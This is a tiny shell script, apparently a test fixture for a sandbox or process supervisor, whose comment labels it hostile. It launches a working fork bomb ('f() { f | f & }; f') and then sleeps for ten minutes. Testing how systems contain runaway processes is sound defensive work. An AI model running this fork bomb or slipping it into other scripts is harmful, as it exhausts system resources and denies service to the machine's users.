# Hostile: the classic shell fork bomb, never stopped, and the seat never joined.
echo "bombing" >&2
f() { f | f & }
f
echo "the bomb is running" >&2
exec sleep 600
